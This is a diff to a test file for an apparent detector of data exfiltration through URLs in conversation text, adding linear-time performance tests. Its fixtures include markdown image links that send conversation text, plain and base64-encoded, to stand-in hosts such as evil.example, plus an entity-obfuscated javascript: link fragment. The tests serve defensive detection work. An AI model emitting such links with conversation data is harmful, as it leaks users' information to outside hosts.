@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { MAX_GROWTH, measureGrowth } from '../testing/measure-growth.js'
 import { noConversation, readConversation } from './conversation.js'
 import { findUrls } from './find-urls.js'
 import { compileHostList } from './host-list.js'
@@ -233,4 +234,44 @@ describe('data that is carried out', () => {
     expect(issues(`![x](https://evil.example/?q=${prose})`)).toEqual(['data-carrying prose'])
     expect(issues(`[x](https://example.com/?q=${prose})`)).toEqual([])
   })
+})
+
+describe('a text of 1 MB takes linear time', () => {
+  const known = readConversation(['The blue heron lands at noon. '.repeat(100)])
+  const units = [
+    ...[
+      'https://example.com/a?b=c ',
+      '](',
+      '](a:',
+      '](<a:',
+      'href="a:',
+      'href=a:',
+      'a.a.',
+      'a.com.',
+      '1.1.1.1/',
+      '[',
+      '[.]',
+    ],
+    ...[
+      'a://',
+      ':',
+      'data:,',
+      'a@b.com',
+      'www.',
+      '(dot)a',
+      '](&#x6a;avascript:',
+      '!',
+      '/?q=blue%20heron',
+      'xn--a.com ',
+    ],
+    ...['![x](https://e.example/?q=dGhlIGJsdWUgaGVyb24gbGFuZHM=)', 'https://', 'https://a.', 'src=//a?', '%20'],
+  ]
+
+  test.each(units)(
+    '%j',
+    (unit) => {
+      expect(measureGrowth((text) => issues(text, {}, known), unit)).toBeLessThan(MAX_GROWTH)
+    },
+    60_000,
+  )
 })
